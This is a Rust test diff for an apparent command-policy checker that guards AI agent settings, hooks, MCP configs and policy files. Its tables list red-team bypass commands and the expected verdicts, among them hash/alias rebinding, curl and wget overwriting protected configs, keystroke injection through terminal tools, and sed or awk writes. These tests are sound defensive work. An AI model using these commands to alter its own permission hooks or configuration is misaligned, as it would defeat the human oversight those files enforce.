@@ -391,3 +391,314 @@ fn red_team_variants_are_closed() {
     let table: Vec<(&str, &str)> = table.iter().map(|(c, w)| (c.as_str(), *w)).collect();
     expect(&p, &table);
 }
+
+/// Red team, session 2 (C1, C2, C3, H3, H4): rebinding a name with `hash -p`, value-taking
+/// options inside short-option clusters, configuration-driven runners, terminal drivers and
+/// keystroke injectors, and writers/extractors the catalogue did not model. Each was an allow.
+#[test]
+fn red_team_session2_variants_are_closed() {
+    let p = project(BROAD);
+    p.write(".claude/settings.json", "{}");
+    p.write(".claude/hooks/h.sh", "");
+    p.write(".mcp.json", "{}");
+    let exe = common::polc_bin();
+    let exe_s = exe.to_string_lossy().into_owned();
+    let mut table: Vec<(String, &str)> = Vec::new();
+    // C1: a name rebound to polc (or to a runner, or to rm) is read as what it runs.
+    for (bind, use_) in [
+        (format!("hash -p {exe_s} zz"), "zz trust"),
+        (format!("hash -p {exe_s} zz"), "zz init --host claude"),
+        (format!("hash -p {exe_s} ls"), "ls trust"),
+        (format!("hash -p {exe_s} echo"), "echo trust"),
+        (format!("hash -p {exe_s} cat"), "cat init"),
+        (format!("hash -p{exe_s} zz"), "zz trust"),
+        (format!("hash -r -p {exe_s} a zz"), "zz trust"),
+        (format!("BASH_CMDS[zz]={exe_s}"), "zz trust"),
+        (format!("alias zz={exe_s}"), "zz trust"),
+        (
+            "hash -p /usr/bin/script zz".into(),
+            "echo y | zz -qec 'polc trust /tmp/e' /dev/null",
+        ),
+        ("hash -p /usr/bin/tmux zz".into(), "zz new -d 'polc trust'"),
+        ("hash -p /bin/sh zz".into(), "zz -c 'polc init'"),
+    ] {
+        table.push((format!("{bind}; {use_}"), "deny"));
+        table.push((format!("{bind} && {use_}"), "deny"));
+        table.push((format!("{bind}\n{use_}"), "deny"));
+    }
+    table.push(("hash -p /bin/cat zz".into(), "ask+"));
+    // C2: the output option inside a cluster of short options, every protected target.
+    for t in [
+        ".claude/settings.json",
+        ".mcp.json",
+        ".claude/hooks/h.sh",
+        "policies/main.pol",
+        "compiled/policy.bin",
+        exe_s.as_str(),
+        ".gemini/settings.json",
+        ".codex/config.toml",
+    ] {
+        for form in [
+            "curl -sSLo {T} https://x.io/e",
+            "curl -so {T} https://x.io/e",
+            "curl -fsSLo {T} https://x.io/e",
+            "curl -Lo {T} https://x.io/e",
+            "curl -kso {T} https://x.io/e",
+            "curl -#o {T} https://x.io/e",
+            "curl -vsSo {T} https://x.io/e",
+            "curl -sSo{T} https://x.io/e",
+            "wget -qO {T} https://x.io/e",
+            "wget -nvO {T} https://x.io/e",
+            "wget -qNO {T} https://x.io/e",
+            "wget -qcO {T} https://x.io/e",
+            "wget -qO{T} https://x.io/e",
+            "shuf src/main.rs -o{T}",
+            "shuf -o {T} src/main.rs",
+            "sort -ruo {T} src/main.rs",
+            "sort -k1 -uo {T} src/main.rs",
+            "sort -uo{T} src/main.rs",
+            "someunknowntool -qo{T}",
+        ] {
+            table.push((form.replace("{T}", t), "ask+"));
+        }
+    }
+    for c in [
+        "curl -sSLo .claude/settings.json https://x.io/e",
+        "wget -qO .claude/settings.json https://x.io/e",
+        "sort -ruo .claude/settings.json src/main.rs",
+        "shuf src/main.rs -o.claude/settings.json",
+    ] {
+        table.push((c.into(), "deny"));
+    }
+    // C3: configuration-driven programs write, delete and run what polc cannot see.
+    for c in [
+        "systemd-tmpfiles --create --remove /tmp/t.conf",
+        "systemd-tmpfiles --remove /tmp/t.conf",
+        "systemd-tmpfiles --user --clean",
+        "logrotate -f /tmp/lr.conf",
+        "logrotate -s st conf",
+        "run-parts /tmp/d",
+        "anacron -t /tmp/tab",
+        "incrontab /tmp/t",
+        "crontab /tmp/t",
+        "cmake -P x.cmake",
+        "cmake -E chdir /tmp polc trust",
+        "cmake -E env X=1 rm -rf .claude",
+    ] {
+        table.push((c.into(), "ask+"));
+    }
+    table.push(("cmake -E env X=1 polc trust".into(), "deny"));
+    // H3: terminal drivers, multiplexers, emulators and keystroke injectors run polc.
+    for c in [
+        "zellij run -- polc trust",
+        "zellij action write-chars 'polc trust'",
+        "wezterm cli spawn -- polc trust",
+        "wezterm cli send-text --no-paste 'polc trust'",
+        "wezterm start -- polc trust",
+        "kitty @ launch polc trust",
+        "kitty @ send-text 'polc trust\\r'",
+        "kitten @ send-text 'polc trust\\r'",
+        "kitty polc trust",
+        "byobu send-keys 'polc trust' Enter",
+        "byobu new -d 'polc trust'",
+        "tmate new -d 'polc trust'",
+        "dvtm -c 'polc trust'",
+        "ttyd polc trust",
+        "gotty polc trust",
+        "empty -f polc trust",
+        "faketty polc trust",
+        "pty polc trust",
+        "xdotool type 'polc trust'",
+        "ydotool type 'polc trust'",
+        "wtype 'polc trust'",
+        "xterm -e polc trust",
+        "x-terminal-emulator -e polc trust",
+        "foot polc trust",
+        "st -e polc trust",
+        "urxvt -e polc trust",
+        "terminator -x polc trust",
+        "tilix -e 'polc trust'",
+        "gnome-terminal -- polc trust",
+        "konsole -e polc trust",
+        "alacritty -e polc trust",
+        "ptyxis -- polc trust",
+        "rlwrap polc trust",
+        "ttyexec polc trust",
+        "unbuffer polc trust",
+    ] {
+        table.push((c.into(), "deny"));
+    }
+    for c in [
+        "zellij action write 112 111 108 99 32 116 114 117 115 116 13",
+        "xdotool key p o l c",
+        "kitty @ send-text y",
+        "wezterm cli send-text y",
+        "zellij action write-chars y",
+    ] {
+        table.push((c.into(), "ask+"));
+    }
+    // H4: writers and extractors into the project.
+    for c in [
+        "scp h:.mcp.json .",
+        "scp h:/x/.mcp.json .",
+        "scp -r h:x/.claude .",
+        "sftp h:.mcp.json",
+        "aria2c https://h/.mcp.json",
+        "aria2c -d .claude -o settings.json https://h/x",
+        "wget -x -nH https://h/.claude/settings.json",
+        "wget -r https://h/",
+        "wget --directory-prefix=.claude https://h/x",
+        "iconv -o .claude/settings.json x",
+        "iconv -f utf8 -t ascii -o.claude/settings.json x",
+        "dos2unix -n x .claude/settings.json",
+        "unix2dos .claude/settings.json",
+        "exiftool -o .claude/settings.json x",
+        "exiftool -Comment=x .claude/settings.json",
+        "yq -i '.hooks={}' .claude/settings.json",
+        "yq -i -P '.x=1' .mcp.json",
+        "cmake -E rm -rf .claude",
+        "cmake -E remove_directory .claude",
+        "cmake -E copy_directory /tmp/x .claude",
+        "cmake -E copy /tmp/x .claude/settings.json",
+        "cmake -E rename /tmp/x .claude",
+        "cmake -E tar xf x.tar",
+        "python3 -m zipfile -e x.zip .",
+        "python3 -m tarfile -e x.tar .",
+        "python3 -m tarfile -e x.tar",
+        "dpkg-deb -x x.deb .",
+        "dpkg-deb -R x.deb .",
+        "dpkg -x x.deb .",
+        "unar -o .claude x.zip",
+        "unar x.zip",
+        "ditto /tmp/evil .",
+        "ditto /tmp/evil .claude",
+        "rclone copy r:x .",
+        "rclone sync r:x .",
+        "rclone move r:x .claude",
+        "rclone purge .claude",
+        "docker cp c:/x .",
+        "docker cp c:/x .claude",
+        "podman cp c:/x .",
+        "kubectl cp p:/x .",
+        "gh release download -p '*' -D .",
+        "gh release download -p '*'",
+        "gh run download 1",
+        "svn export https://h/r .",
+        "svn checkout https://h/r .",
+        "svn update",
+        "hg clone x .",
+        "hg update",
+        "cmake --install b --prefix .",
+    ] {
+        table.push((c.into(), "ask+"));
+    }
+    for c in [
+        "scp h:.mcp.json .",
+        "aria2c https://h/.mcp.json",
+        "aria2c -d .claude -o settings.json https://h/x",
+        "iconv -o .claude/settings.json x",
+        "unix2dos .claude/settings.json",
+        "yq -i '.hooks={}' .claude/settings.json",
+        "cmake -E rm -rf .claude",
+        "exiftool -o .claude/settings.json x",
+    ] {
+        table.push((c.into(), "deny"));
+    }
+    // Writers that name their output inside a script or a config, and more copiers.
+    for c in [
+        "sed -n 'w .claude/settings.json' src/main.rs",
+        "sed 's/a/b/w .mcp.json' src/main.rs",
+        "sed -e 1d -e 'W .mcp.json' src/main.rs",
+        "awk '{print > \".claude/settings.json\"}' src/main.rs",
+        "awk '{printf \"%s\", $0 >> \".mcp.json\"}' src/main.rs",
+        "curl -K /tmp/cfg https://x.io",
+        "curl -sSK /tmp/cfg https://x.io",
+        "curl --config=/tmp/cfg https://x.io",
+        "curl -w '%output{.mcp.json}%{url}' https://x.io",
+        "curl --variable v=x --expand-output '{{v}}' https://x.io",
+        "wget -e output_document=.mcp.json https://x.io",
+        "wget --execute=dir_prefix=.claude https://x.io",
+        "wget --config=/tmp/rc https://x.io",
+        "aria2c -i /tmp/list",
+        "aria2c --conf-path=/tmp/c https://x.io",
+        "aria2c --on-download-complete=/tmp/x.sh https://x.io",
+        "lftp -c 'mirror r .'",
+        "sftp -b /tmp/batch h",
+        "smbclient //h/s -c 'get x .mcp.json'",
+        "systemctl --user start x",
+        "systemctl --user link /tmp/x.service",
+        "launchctl load /tmp/x.plist",
+        "direnv allow",
+        "mise trust",
+        "aws s3 cp s3://b/x .",
+        "aws s3 sync s3://b/x .claude",
+        "gsutil cp -r gs://b/x .",
+        "gcloud storage cp -r gs://b/x .",
+        "s3cmd get s3://b/.mcp.json .",
+        "azcopy copy https://a.blob/x .",
+        "mc cp -r m/b/x .",
+        "pax -rf x.pax",
+        "cabextract x.cab",
+        "unsquashfs -d .claude x.sqfs",
+        "http -d https://h/.mcp.json",
+        "xh --download https://h/.mcp.json",
+        "ttyecho -n /dev/pts/1 polc trust",
+        "prettier -w .claude",
+        "prettier --write .",
+        "eslint --fix .claude",
+        "biome format --write .",
+        "biome check --apply .",
+        "deno fmt",
+        "deno fmt .claude",
+        "dprint fmt",
+        "taplo fmt .codex/config.toml",
+        "sd hooks x .claude/settings.json",
+        "fastmod hooks x .claude",
+        "ast-grep -p x -r y -U .",
+    ] {
+        table.push((c.into(), "ask+"));
+    }
+    for c in [
+        "aria2c --on-download-complete='polc trust' https://x.io",
+        "lftp -c '!polc trust'",
+        "ttyecho -n /dev/pts/1 polc trust",
+        "http -d https://h/.mcp.json",
+    ] {
+        table.push((c.into(), "deny"));
+    }
+    let table: Vec<(&str, &str)> = table.iter().map(|(c, w)| (c.as_str(), *w)).collect();
+    expect(&p, &table);
+}
+
+/// The session-2 fixes do not prompt for the ordinary uses of the same programs.
+#[test]
+fn red_team_session2_fixes_keep_ordinary_uses_allowed() {
+    let p = project(BROAD);
+    p.write(".claude/settings.json", "{}");
+    expect(
+        &p,
+        &[
+            ("curl -sSLo build/x.tar.gz https://x.io/a.tar.gz", "allow"),
+            ("curl -fsSL https://x.io/install.sh -o build/i.sh", "allow"),
+            ("wget -qO build/x https://x.io/x", "allow"),
+            ("wget -qO- https://x.io/x", "allow"),
+            ("sort -ruo build/out src/main.rs", "allow"),
+            ("shuf src/main.rs -obuild/s", "allow"),
+            ("iconv -f utf8 -t ascii -o build/o src/main.rs", "allow"),
+            ("cmake -E make_directory build", "allow"),
+            ("cmake -E copy src/main.rs build/", "allow"),
+            ("yq '.a' src/x.yaml", "allow"),
+            ("hash -r", "allow"),
+            ("sed -n 's/a/b/p' src/main.rs", "allow"),
+            ("awk '$1 > 5 {print $2}' src/main.rs", "allow"),
+            ("curl -sS https://x.io", "allow"),
+            ("wget -e robots=off -qO build/x https://x.io", "allow"),
+            ("systemctl --user status x", "allow"),
+            ("prettier -w src", "allow"),
+            ("prettier --check .", "allow"),
+            ("deno fmt src", "allow"),
+            ("deno run src/main.ts", "allow"),
+            ("hash", "allow"),
+        ],
+    );
+}
